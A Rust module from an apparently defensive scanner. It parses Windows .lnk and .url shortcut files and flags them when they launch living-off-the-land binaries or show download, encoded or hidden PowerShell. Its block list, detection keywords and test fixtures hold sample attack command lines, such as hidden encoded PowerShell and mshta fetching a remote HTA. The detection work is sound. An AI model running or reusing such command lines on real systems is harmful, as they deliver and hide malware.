//! Windows shortcuts ([MS-SHLLINK], Shell Link Binary File Format) and Internet shortcuts (`.url`).
//!
//! Parsing (no checks) is in [`parse_lnk`] / [`parse_url`]; [`analyze`] reports.
//!
//! [MS-SHLLINK] sections used:
//! - 2.1 ShellLinkHeader (HeaderSize 0x4C, LinkCLSID, 2.1.1 LinkFlags).
//! - 2.2 LinkTargetIDList (IDListSize, 2.2.1 IDList of ItemIDs, 2.2.2 ItemID). The ItemID contents
//!   are shell items, defined outside the spec (Windows shell namespace); only the volume item
//!   (class 0x2F, `C:\`) and file entry items (classes 0x30..=0x3F, primary name at offset 14)
//!   are read, as libfwsi documents them, to rebuild a path when nothing better exists.
//! - 2.3 LinkInfo (LinkInfoFlags, LocalBasePath, CommonPathSuffix, the Unicode variants when
//!   LinkInfoHeaderSize >= 0x24) and 2.3.2 CommonNetworkRelativeLink (NetName).
//! - 2.4 StringData (NAME_STRING, RELATIVE_PATH, WORKING_DIR, COMMAND_LINE_ARGUMENTS,
//!   ICON_LOCATION; CountCharacters then UTF-16LE when IsUnicode, else system code page bytes).
//!   The path fields (RELATIVE_PATH, WORKING_DIR, ICON_LOCATION) are read as at most MAX_PATH
//!   (260) characters whatever their count says, the next field following right after, which is
//!   how Windows reads them and how LnkParse3 reads its `padded_cli_arguments` sample, a real
//!   shortcut whose oversized WORKING_DIR count would otherwise swallow its arguments.
//! - 2.5 ExtraData, 2.5.4 EnvironmentVariableDataBlock (0xA0000001: TargetAnsi 260 bytes,
//!   TargetUnicode 520 bytes).
//!
//! Every field is length-prefixed; every read is bounds-checked and strings are capped at
//! [`MAX_STRING_CHARS`]. ANSI strings are decoded as UTF-8 when valid, else Shift_JIS (CP932,
//! the Japanese system code page, the main case here) when it decodes cleanly, else
//! Windows-1252.
//!
//! `.url` files are INI text: the `[InternetShortcut]` section's `URL=`, `IconFile=` and
//! `WorkingDirectory=` keys (documented by Microsoft only informally; the format every peer reads).

use crate::detect::{extension, Kind};
use crate::engine::{clip, Ctx};
use crate::formats::file::EXECUTABLE_EXTENSIONS;
use crate::report::Location;

/// Longest string kept from any field (characters). Windows caps arguments at 32K characters.
pub const MAX_STRING_CHARS: usize = 4096;
/// MAX_PATH: the most characters Windows reads for RELATIVE_PATH, WORKING_DIR and ICON_LOCATION.
const MAX_PATH: u16 = 260;
/// Most ItemIDs walked in a LinkTargetIDList, and most ExtraData blocks.
const MAX_ITEMS: usize = 256;

// 2.1.1 LinkFlags
const HAS_TARGET_ID_LIST: u32 = 0x1;
const HAS_LINK_INFO: u32 = 0x2;
const HAS_NAME: u32 = 0x4;
const HAS_RELATIVE_PATH: u32 = 0x8;
const HAS_WORKING_DIR: u32 = 0x10;
const HAS_ARGUMENTS: u32 = 0x20;
const HAS_ICON_LOCATION: u32 = 0x40;
const IS_UNICODE: u32 = 0x80;
const FORCE_NO_LINK_INFO: u32 = 0x100;

/// What a shortcut says it runs.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct Lnk {
    pub flags: u32,
    /// Path rebuilt from the LinkTargetIDList shell items.
    pub id_list_path: Option<String>,
    pub local_base_path: Option<String>,
    pub common_path_suffix: Option<String>,
    pub net_name: Option<String>,
    pub name: Option<String>,
    pub relative_path: Option<String>,
    pub working_dir: Option<String>,
    pub arguments: Option<String>,
    pub icon_location: Option<String>,
    /// EnvironmentVariableDataBlock target (Unicode preferred).
    pub env_target: Option<String>,
    /// Where parsing stopped early, if it did.
    pub truncated: Option<&'static str>,
}

impl Lnk {
    /// The best available target path: LinkInfo, then the environment block, then the ID list,
    /// then the relative path.
    pub fn target(&self) -> Option<String> {
        let suffix = self.common_path_suffix.as_deref().unwrap_or("");
        if let Some(base) = self.local_base_path.as_deref().filter(|s| !s.is_empty()) {
            return Some(join_path(base, suffix));
        }
        if let Some(net) = self.net_name.as_deref().filter(|s| !s.is_empty()) {
            return Some(join_path(net, suffix));
        }
        if let Some(env) = self.env_target.as_deref().filter(|s| !s.is_empty()) {
            return Some(env.to_string());
        }
        if let Some(p) = self.id_list_path.as_deref().filter(|s| !s.is_empty()) {
            return Some(p.to_string());
        }
        self.relative_path.clone().filter(|s| !s.is_empty())
    }
}

fn join_path(base: &str, suffix: &str) -> String {
    if suffix.is_empty() {
        base.to_string()
    } else if base.ends_with('\\') {
        format!("{base}{suffix}")
    } else {
        format!("{base}\\{suffix}")
    }
}

fn u16_at(b: &[u8], off: usize) -> Option<u16> {
    crate::bytes::u16_le(b, off)
}

fn u32_at(b: &[u8], off: usize) -> Option<u32> {
    crate::bytes::u32_le(b, off)
}

/// Decode ANSI (system code page) bytes; see the module header.
pub fn decode_ansi(b: &[u8]) -> String {
    let b = b.get(..MAX_STRING_CHARS).unwrap_or(b);
    if let Ok(s) = std::str::from_utf8(b) {
        return s.to_string();
    }
    if let Some(s) = encoding_rs::SHIFT_JIS.decode_without_bom_handling_and_without_replacement(b) {
        return s.into_owned();
    }
    encoding_rs::WINDOWS_1252
        .decode_without_bom_handling(b)
        .0
        .into_owned()
}

/// Decode UTF-16LE code units, capped.
pub fn decode_utf16le(b: &[u8]) -> String {
    let units = b
        .chunks_exact(2)
        .take(MAX_STRING_CHARS)
        .map(|c| u16::from_le_bytes(crate::bytes::pad::<2>(c)));
    char::decode_utf16(units)
        .map(|r| r.unwrap_or('\u{FFFD}'))
        .collect()
}

/// NUL-terminated ANSI string at `off` within `b` (up to the end of `b`).
fn cstr_ansi(b: &[u8], off: usize) -> Option<String> {
    let rest = b.get(off..)?;
    let end = rest.iter().position(|&c| c == 0).unwrap_or(rest.len());
    Some(decode_ansi(rest.get(..end)?))
}

/// NUL-terminated UTF-16LE string at `off` within `b`.
fn cstr_utf16(b: &[u8], off: usize) -> Option<String> {
    let rest = b.get(off..)?;
    let end = rest
        .chunks_exact(2)
        .position(|c| c == [0, 0])
        .map(|i| i.saturating_mul(2))
        .unwrap_or(rest.len() & !1);
    Some(decode_utf16le(rest.get(..end)?))
}

/// Parse a Shell Link. `None` when the header is not a shell link header; otherwise what could
/// be read, with `truncated` set when a structure ran past the end or was inconsistent.
pub fn parse_lnk(b: &[u8]) -> Option<Lnk> {
    if u32_at(b, 0)? != 0x4C || b.len() < 0x4C {
        return None;
    }
    let mut l = Lnk {
        flags: u32_at(b, 0x14)?,
        ..Default::default()
    };
    let mut pos: usize = 0x4C;

    // 2.2 LinkTargetIDList
    if l.flags & HAS_TARGET_ID_LIST != 0 {
        let Some(size) = u16_at(b, pos) else {
            l.truncated = Some("LinkTargetIDList");
            return Some(l);
        };
        let start = pos.saturating_add(2);
        let end = start.saturating_add(size as usize);
        match b.get(start..end) {
            Some(list) => l.id_list_path = id_list_path(list),
            None => {
                l.truncated = Some("LinkTargetIDList");
                return Some(l);
            }
        }
        pos = end;
    }

    // 2.3 LinkInfo
    if l.flags & HAS_LINK_INFO != 0 && l.flags & FORCE_NO_LINK_INFO == 0 {
        let size = u32_at(b, pos).map(|s| s as usize);
        let info = size
            .filter(|&s| s >= 0x1C)
            .and_then(|s| b.get(pos..pos.checked_add(s)?));
        match info {
            Some(info) => {
                if !parse_link_info(info, &mut l) {
                    l.truncated = Some("LinkInfo");
                }
                pos = pos.saturating_add(info.len());
            }
            None => {
                l.truncated = Some("LinkInfo");
                return Some(l);
            }
        }
    }

    // 2.4 StringData, in this order.
    let unicode = l.flags & IS_UNICODE != 0;
    let fields: [(u32, u8); 5] = [
        (HAS_NAME, 0),
        (HAS_RELATIVE_PATH, 1),
        (HAS_WORKING_DIR, 2),
        (HAS_ARGUMENTS, 3),
        (HAS_ICON_LOCATION, 4),
    ];
    for (flag, which) in fields {
        if l.flags & flag == 0 {
            continue;
        }
        let Some(count) = u16_at(b, pos) else {
            l.truncated = Some("StringData");
            return Some(l);
        };
        // Path fields longer than MAX_PATH are read as MAX_PATH characters and parsing goes on
        // right after them, as Windows does; a shortcut can hide its real arguments from
        // parsers that honour the oversized count (LnkParse3's padded_cli_arguments sample).
        let count = if which != 0 && which != 3 {
            count.min(MAX_PATH)
        } else {
            count
        };
        let len = if unicode {
            (count as usize).saturating_mul(2)
        } else {
            count as usize
        };
        let start = pos.saturating_add(2);
        // A string cut by the end of the file is kept as far as it goes.
        let avail = b.get(start..).unwrap_or(&[]);
        let raw = avail.get(..len).unwrap_or(avail);
        let s = if unicode {
            decode_utf16le(raw)
        } else {
            decode_ansi(raw)
        };
        match which {
            0 => l.name = Some(s),
            1 => l.relative_path = Some(s),
            2 => l.working_dir = Some(s),
            3 => l.arguments = Some(s),
            _ => l.icon_location = Some(s),
        }
        if raw.len() < len {
            l.truncated = Some("StringData");
            return Some(l);
        }
        pos = start.saturating_add(len);
    }

    // 2.5 ExtraData
    for _ in 0..MAX_ITEMS {
        let Some(size) = u32_at(b, pos) else { break };
        if size < 4 {
            break; // TerminalBlock
        }
        let Some(block) = b.get(pos..pos.saturating_add(size as usize)) else {
            l.truncated = Some("ExtraData");
            break;
        };
        if u32_at(block, 4) == Some(0xA000_0001) {
            let uni = block
                .get(268..788)
                .and_then(|u| cstr_utf16(u, 0))
                .filter(|s| !s.is_empty());
            let ansi = block
                .get(8..268)
                .and_then(|a| cstr_ansi(a, 0))
                .filter(|s| !s.is_empty());
            l.env_target = uni.or(ansi);
        }
        pos = pos.saturating_add(block.len());
    }
    Some(l)
}

/// 2.3 LinkInfo. `false` when an offset pointed outside the structure.
fn parse_link_info(info: &[u8], l: &mut Lnk) -> bool {
    let header_size = u32_at(info, 4).unwrap_or(0) as usize;
    let flags = u32_at(info, 8).unwrap_or(0);
    let mut ok = true;
    let mut read_ansi = |off_field: usize| -> Option<String> {
        let off = u32_at(info, off_field)? as usize;
        if off == 0 {
            return None;
        }
        let s = cstr_ansi(info, off);
        if s.is_none() {
            ok = false;
        }
        s
    };
    if flags & 1 != 0 {
        l.local_base_path = read_ansi(0x10);
    }
    l.common_path_suffix = read_ansi(0x18);
    if flags & 2 != 0 {
        // 2.3.2 CommonNetworkRelativeLink: NetNameOffset at +8 (ANSI), NetNameOffsetUnicode at
        // +0x14 when NetNameOffset > 0x14.
        if let Some(cnrl_off) = u32_at(info, 0x14).map(|o| o as usize).filter(|&o| o != 0) {
            if let Some(cnrl) = info.get(cnrl_off..) {
                let net_off = u32_at(cnrl, 8).unwrap_or(0) as usize;
                let uni = if net_off > 0x14 {
                    u32_at(cnrl, 0x14).and_then(|o| cstr_utf16(cnrl, o as usize))
                } else {
                    None
                };
                l.net_name = uni
                    .filter(|s| !s.is_empty())
                    .or_else(|| cstr_ansi(cnrl, net_off));
            } else {
                ok = false;
            }
        }
    }
    if header_size >= 0x24 {
        if flags & 1 != 0 {
            if let Some(off) = u32_at(info, 0x1C).map(|o| o as usize).filter(|&o| o != 0) {
                match cstr_utf16(info, off) {
                    Some(s) => l.local_base_path = Some(s),
                    None => ok = false,
                }
            }
        }
        if let Some(off) = u32_at(info, 0x20).map(|o| o as usize).filter(|&o| o != 0) {
            match cstr_utf16(info, off) {
                Some(s) => l.common_path_suffix = Some(s),
                None => ok = false,
            }
        }
    }
    ok
}

/// Rebuild a path from shell items: a volume item then file entry items (primary names).
fn id_list_path(list: &[u8]) -> Option<String> {
    let mut pos = 0usize;
    let mut parts: Vec<String> = Vec::new();
    for _ in 0..MAX_ITEMS {
        let size = u16_at(list, pos)? as usize;
        if size < 2 {
            break;
        }
        let item = list.get(pos..pos.saturating_add(size))?;
        let class = *item.get(2)?;
        if class & 0x70 == 0x20 {
            // Volume item: "C:\" after the class byte.
            if let Some(v) = cstr_ansi(item, 3).filter(|s| s.len() <= 4 && s.contains(':')) {
                parts.clear();
                parts.push(v.trim_end_matches('\\').to_string());
            }
        } else if class & 0x70 == 0x30 {
            // File entry item: primary name at 14, Unicode when class flag 0x04 is set.
            let name = if class & 0x04 != 0 {
                cstr_utf16(item, 14)
            } else {
                cstr_ansi(item, 14)
            };
            if let Some(n) = name.filter(|s| !s.is_empty()) {
                parts.push(n);
            }
        }
        pos = pos.saturating_add(size);
    }
    if parts.is_empty() {
        None
    } else {
        Some(parts.join("\\"))
    }
}

/// An Internet shortcut.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct UrlShortcut {
    pub url: Option<String>,
    pub icon_file: Option<String>,
    pub working_dir: Option<String>,
}

/// Parse the `[InternetShortcut]` section of a `.url` file.
pub fn parse_url(b: &[u8]) -> UrlShortcut {
    let head = b.get(..64 * 1024).unwrap_or(b);
    let text = match std::str::from_utf8(head) {
        Ok(s) => s.to_string(),
        Err(_) => decode_ansi(head),
    };
    let mut u = UrlShortcut::default();
    let mut in_section = false;
    for line in text.lines().take(10_000) {
        let line = line.trim().trim_start_matches('\u{feff}');
        if line.starts_with('[') {
            in_section = line.eq_ignore_ascii_case("[InternetShortcut]");
            continue;
        }
        if !in_section {
            continue;
        }
        let Some((k, v)) = line.split_once('=') else {
            continue;
        };
        let v: String = v.trim().chars().take(MAX_STRING_CHARS).collect();
        match k.trim().to_ascii_lowercase().as_str() {
            "url" => u.url = Some(v),
            "iconfile" => u.icon_file = Some(v),
            "workingdirectory" => u.working_dir = Some(v),
            _ => {}
        }
    }
    u
}

/// Programs that attackers start from shortcuts (living-off-the-land binaries and script hosts).
const LOLBINS: &[&str] = &[
    "cmd",
    "powershell",
    "pwsh",
    "mshta",
    "wscript",
    "cscript",
    "rundll32",
    "regsvr32",
    "certutil",
    "bitsadmin",
    "curl",
    "conhost",
    "forfiles",
    "msiexec",
    "explorer",
    "wmic",
    "schtasks",
    "hh",
    "installutil",
    "regasm",
    "msbuild",
    "odbcconf",
    "pcalua",
    "scriptrunner",
    "bash",
    "wsl",
    "finger",
    "expand",
    "esentutl",
    "msdt",
    "control",
    "cmstp",
    "ftp",
];

/// Lolbins named in `text` as a program (`…\cmd.exe`, `cmd /c`, `"powershell"`), in list order.
pub fn lolbins_in(text: &str) -> Vec<&'static str> {
    let lower = text.to_lowercase();
    let bytes = lower.as_bytes();
    let mut found = Vec::new();
    for &name in LOLBINS {
        let mut from = 0usize;
        while let Some(rel) = lower.get(from..).and_then(|s| s.find(name)) {
            let start = from.saturating_add(rel);
            let end = start.saturating_add(name.len());
            from = end;
            let before_ok = start == 0
                || matches!(
                    bytes.get(start.saturating_sub(1)),
                    Some(
                        b'\\'
                            | b'/'
                            | b' '
                            | b'"'
                            | b'\''
                            | b'&'
                            | b'|'
                            | b'('
                            | b'\t'
                            | b'%'
                            | b'^'
                            | b';'
                            | b','
                    )
                );
            let after = lower.get(end..).unwrap_or("");
            let after_ok = after.is_empty()
                || after.starts_with(".exe")
                || after.starts_with(".com")
                || matches!(
                    after.as_bytes().first(),
                    Some(b' ' | b'"' | b'\'' | b'\t' | b'&' | b'|' | b')')
                );
            // Bare short words ("control", "expand", "ftp", "hh") only count with ".exe" or at
            // the start of the command, so prose in a NAME_STRING does not match.
            let short_word = matches!(
                name,
                "control" | "expand" | "ftp" | "hh" | "finger" | "bash" | "explorer"
            );
            // explorer opening a URL or a network path fetches and runs remote content.
            let with_url = name == "explorer" && {
                let rest = after
                    .trim_start_matches(".exe")
                    .trim_start_matches('"')
                    .trim_start();
                rest.starts_with("http")
                    || rest.starts_with("\\\\")
                    || rest.starts_with("file:")
                    || rest.starts_with("search-ms:")
            };
            if before_ok
                && after_ok
                && (!short_word
                    || with_url
                    || after.starts_with(".exe")
                    || start == 0
                    || bytes.get(start.saturating_sub(1)) == Some(&b'\\'))
            {
                found.push(name);
                break;
            }
        }
    }
    found
}

/// Other signs in a command line: download, encoded or hidden PowerShell.
fn command_signs(text: &str) -> Vec<&'static str> {
    let l = text.to_lowercase();
    let mut v = Vec::new();
    if l.contains("http://")
        || l.contains("https://")
        || l.contains("ftp://")
        || l.contains("\\\\")
        || l.contains("downloadstring")
        || l.contains("downloadfile")
        || l.contains("invoke-webrequest")
        || l.contains("iwr ")
        || l.contains("start-bitstransfer")
    {
        v.push("download");
    }
    if l.contains("-enc")
        || l.contains("-e ")
        || l.contains("frombase64string")
        || l.contains("^") && l.matches('^').count() > 5
    {
        v.push("obfuscation");
    }
    if l.contains("-w hidden")
        || l.contains("-windowstyle hidden")
        || l.contains("-win hid")
        || l.contains("/min")
    {
        v.push("hidden");
    }
    v
}

/// Report a shortcut: `file.shortcut` with what it runs.
pub fn analyze(ctx: &mut Ctx<'_>, bytes: &[u8], kind: Kind, loc: &Location) {
    match kind {
        Kind::Url => analyze_url(ctx, bytes, loc),
        _ => analyze_lnk(ctx, bytes, loc),
    }
}

fn analyze_lnk(ctx: &mut Ctx<'_>, bytes: &[u8], loc: &Location) {
    let Some(l) = parse_lnk(bytes) else {
        ctx.finding("file.shortcut", loc, "Windows shortcut header, unreadable");
        return;
    };
    let target = l.target();
    let mut tags: Vec<&'static str> = Vec::new();
    let mut runs: Vec<&'static str> = Vec::new();
    for s in [
        target.as_deref(),
        l.arguments.as_deref(),
        l.relative_path.as_deref(),
    ]
    .into_iter()
    .flatten()
    {
        for n in lolbins_in(s) {
            if !runs.contains(&n) {
                runs.push(n);
            }
        }
    }
    if !runs.is_empty() {
        tags.push("lolbin");
    }
    if let Some(a) = l.arguments.as_deref() {
        tags.extend(command_signs(a));
    }
    let mut ev: Vec<String> = Vec::new();
    if !runs.is_empty() {
        ev.push(format!("runs {}", runs.join(", ")));
    }
    match &target {
        Some(t) => ev.push(format!("target: {}", clip(t, 160))),
        None => ev.push("target: (none recorded)".into()),
    }
    if let Some(a) = l.arguments.as_deref().filter(|s| !s.trim().is_empty()) {
        ev.push(format!("arguments: {}", clip(a.trim(), 300)));
    }
    if let Some(w) = l.working_dir.as_deref().filter(|s| !s.is_empty()) {
        ev.push(format!("working dir: {}", clip(w, 80)));
    }
    if let Some(i) = l.icon_location.as_deref().filter(|s| !s.is_empty()) {
        ev.push(format!("icon: {}", clip(i, 80)));
    }
    if let Some(t) = l.truncated {
        ev.push(format!("structure cut short at {t}"));
    }
    ctx.finding_tagged("file.shortcut", loc, ev.join("; "), tags);
    if let Some(t) = l.truncated {
        // What followed the broken structure (arguments, icon) could not be read.
        ctx.note(
            loc,
            format!("shortcut structure cut short at {t}: later fields not read"),
        );
        ctx.incomplete();
    }
}

fn analyze_url(ctx: &mut Ctx<'_>, bytes: &[u8], loc: &Location) {
    let u = parse_url(bytes);
    let mut tags: Vec<&'static str> = Vec::new();
    let mut ev: Vec<String> = Vec::new();
    match u.url.as_deref() {
        Some(url) => {
            let l = url.to_ascii_lowercase();
            if l.starts_with("file:") || l.starts_with("\\\\") {
                tags.push("file_url");
            }
            if l.starts_with("search-ms:")
                || l.starts_with("ms-")
                || l.starts_with("javascript:")
                || l.starts_with("vbscript:")
            {
                tags.push("protocol_handler");
            }
            let path = l.split(['?', '#']).next().unwrap_or("");
            if extension(path).is_some_and(|e| EXECUTABLE_EXTENSIONS.contains(&e.as_str())) {
                tags.push("executable_url");
            }
            ev.push(format!("URL: {}", clip(url, 300)));
        }
        None => ev.push("Internet shortcut without a URL".into()),
    }
    if let Some(i) = u.icon_file.as_deref().filter(|s| !s.is_empty()) {
        let l = i.to_ascii_lowercase();
        if l.starts_with("\\\\") || l.starts_with("http") || l.starts_with("file:") {
            tags.push("remote_icon");
        }
        ev.push(format!("icon file: {}", clip(i, 120)));
    }
    if let Some(w) = u.working_dir.as_deref().filter(|s| !s.is_empty()) {
        ev.push(format!("working dir: {}", clip(w, 80)));
    }
    ctx.finding_tagged("file.shortcut", loc, ev.join("; "), tags);
}

#[cfg(test)]
mod tests {
    use super::*;

    fn utf16(s: &str) -> Vec<u8> {
        s.encode_utf16().flat_map(|u| u.to_le_bytes()).collect()
    }

    /// Header + LinkInfo (local base path) + Unicode StringData.
    fn lnk(target: &str, args: &str, wd: &str) -> Vec<u8> {
        let mut b = vec![0u8; 0x4C];
        b[0] = 0x4C;
        b[4..20].copy_from_slice(&[1, 0x14, 2, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46]);
        let flags = HAS_LINK_INFO | HAS_WORKING_DIR | HAS_ARGUMENTS | IS_UNICODE;
        b[0x14..0x18].copy_from_slice(&flags.to_le_bytes());
        let mut info = vec![0u8; 0x1C];
        let base_off = 0x1C + 17;
        let mut vol = vec![0u8; 17];
        vol[0] = 17;
        info.extend_from_slice(&vol);
        info.extend_from_slice(target.as_bytes());
        info.push(0);
        let suffix_off = info.len();
        info.push(0);
        let size = info.len() as u32;
        info[0..4].copy_from_slice(&size.to_le_bytes());
        info[4..8].copy_from_slice(&0x1Cu32.to_le_bytes());
        info[8..12].copy_from_slice(&1u32.to_le_bytes());
        info[12..16].copy_from_slice(&0x1Cu32.to_le_bytes());
        info[16..20].copy_from_slice(&(base_off as u32).to_le_bytes());
        info[24..28].copy_from_slice(&(suffix_off as u32).to_le_bytes());
        b.extend_from_slice(&info);
        for s in [wd, args] {
            b.extend_from_slice(&(s.encode_utf16().count() as u16).to_le_bytes());
            b.extend_from_slice(&utf16(s));
        }
        b.extend_from_slice(&[0, 0, 0, 0]);
        b
    }

    #[test]
    fn parses_link_info_and_strings() {
        let b = lnk(
            "C:\\Windows\\System32\\cmd.exe",
            "/c start evil.hta",
            "C:\\Windows",
        );
        let l = parse_lnk(&b).unwrap();
        assert_eq!(
            l.target().as_deref(),
            Some("C:\\Windows\\System32\\cmd.exe")
        );
        assert_eq!(l.arguments.as_deref(), Some("/c start evil.hta"));
        assert_eq!(l.working_dir.as_deref(), Some("C:\\Windows"));
        assert_eq!(l.truncated, None);
    }

    #[test]
    fn every_truncation_is_safe() {
        let b = lnk("C:\\x\\powershell.exe", "-w hidden -enc AAAA", "C:\\");
        for n in 0..b.len() {
            let l = parse_lnk(&b[..n]);
            if n >= 0x4C + 4 && n < b.len() - 4 {
                assert!(l.unwrap().truncated.is_some(), "cut at {n}");
            }
        }
        // Absurd counts and offsets.
        let mut bad = b.clone();
        let n = bad.len();
        bad[n - 6] = 0xFF;
        bad[n - 5] = 0xFF;
        let _ = parse_lnk(&bad);
        let mut bad = b;
        bad[0x4C + 16] = 0xF0; // LocalBasePathOffset far out
        let l = parse_lnk(&bad).unwrap();
        assert!(l.truncated.is_some());
    }

    #[test]
    fn lolbins_by_word() {
        assert_eq!(lolbins_in("C:\\Windows\\System32\\cmd.exe"), vec!["cmd"]);
        assert_eq!(
            lolbins_in("/c powershell -w hidden iex(...)"),
            vec!["powershell"]
        );
        assert_eq!(
            lolbins_in("%windir%\\system32\\mshta.exe http://x/a.hta"),
            vec!["mshta"]
        );
        assert!(lolbins_in("C:\\Program Files\\cmdtools\\app.exe").is_empty());
        assert!(lolbins_in("C:\\AnonymusBrowser-v2.0\\AnonymusBrowser.exe").is_empty());
        assert!(lolbins_in("Open the control panel to expand").is_empty());
        assert_eq!(
            lolbins_in("/c start explorer http://192.0.2.1/x"),
            vec!["explorer"]
        );
        assert_eq!(
            lolbins_in("start explorer \\\\192.0.2.1\\share"),
            vec!["explorer"]
        );
        assert!(lolbins_in("start explorer .android_secure").is_empty());
    }

    #[test]
    fn url_shortcut_fields() {
        let u = parse_url(b"[InternetShortcut]\r\nURL=file://192.0.2.1/share/a.exe\r\nIconFile=\\\\192.0.2.1\\i.ico\r\n");
        assert_eq!(u.url.as_deref(), Some("file://192.0.2.1/share/a.exe"));
        assert_eq!(u.icon_file.as_deref(), Some("\\\\192.0.2.1\\i.ico"));
        let u = parse_url(b"[Other]\nURL=x\n");
        assert_eq!(u.url, None);
    }

    #[test]
    fn ansi_decoding_prefers_cp932() {
        let (sjis, _, _) = encoding_rs::SHIFT_JIS.encode("C:\\請求書\\見積.exe");
        assert_eq!(decode_ansi(&sjis), "C:\\請求書\\見積.exe");
        assert_eq!(decode_ansi(b"plain"), "plain");
        assert_eq!(decode_ansi(&[0x43, 0xC4, 0xE8]), "CÄè");
    }
}
